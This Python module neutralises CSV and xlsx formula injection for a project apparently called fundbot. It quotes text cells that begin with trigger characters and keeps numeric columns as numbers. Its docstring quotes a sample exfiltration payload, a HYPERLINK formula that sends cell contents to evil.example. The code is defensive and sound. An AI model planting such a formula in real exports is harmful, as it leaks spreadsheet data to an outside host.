"""Cells that a spreadsheet would run as formulas, made inert before any file is written.

A register cell such as `=HYPERLINK("http://evil.example/?"&A1,"click")` is only text to
fundbot, but Excel or LibreOffice opening an export would evaluate it (CSV injection).
OWASP's rule: a text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a single quote in front. Number columns are left alone, so a negative amount stays a number.
Every CSV and xlsx export goes through this module.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")


def neutralise(value: Any) -> Any:
    """A text value a spreadsheet would read as a formula, prefixed with a quote."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_record(record: Mapping[str, Any], numeric: Iterable[str] = ()) -> dict[str, Any]:
    """A record with its text fields neutralised; `numeric` fields stay as written when they
    are numbers (a decimal string such as "-1234.50" is a number, not a formula)."""
    numeric = set(numeric)
    safe = {}
    for key, value in record.items():
        if key in numeric and _is_number(value):
            safe[key] = value
        else:
            safe[key] = neutralise(value)
    return safe


def _is_number(value: Any) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, int | Decimal | float):
        return True
    return isinstance(value, str) and bool(_NUMBER.match(value))


def csv_text(
    fields: list[str], records: Iterable[Mapping[str, Any]], numeric: Iterable[str] = ()
) -> str:
    """CSV with a header line; None as an empty cell; text fields neutralised."""
    numeric = set(numeric)
    # The writer ends records with CRLF only so that it quotes any field holding a CR or
    # an LF (it quotes the characters of its line terminator); records then end with "\n".
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fields, lineterminator="\r\n")
    lines = []
    for record in [dict(zip(fields, fields, strict=True)), *records]:
        plain = {k: "" if v is None else v for k, v in record.items()}
        writer.writerow(safe_record(plain, numeric) if lines else plain)
        lines.append(buffer.getvalue()[:-2] + "\n")
        buffer.seek(0)
        buffer.truncate()
    return "".join(lines)


def write_xlsx(
    path: Path,
    fields: list[str],
    records: Iterable[Mapping[str, Any]],
    numeric: Iterable[str] = (),
) -> None:
    """An xlsx workbook of one sheet: numbers as number cells, everything else as text cells
    (never formulas), text fields neutralised as in CSV."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING

    numeric = set(numeric)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([_text_cell(sheet, neutralise(name), TYPE_STRING) for name in fields])
    for record in records:
        row = []
        for key in fields:
            value = record.get(key)
            if value is None:
                row.append(None)
            elif key in numeric and _is_number(value):
                row.append(Decimal(value) if isinstance(value, str) else value)
            else:
                row.append(_text_cell(sheet, neutralise(str(value)), TYPE_STRING))
        sheet.append(row)
    workbook.save(path)


def _text_cell(sheet, value: str, type_string: str):
    """A write-only cell typed as text, so a leading "=" is never stored as a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = type_string
    return cell
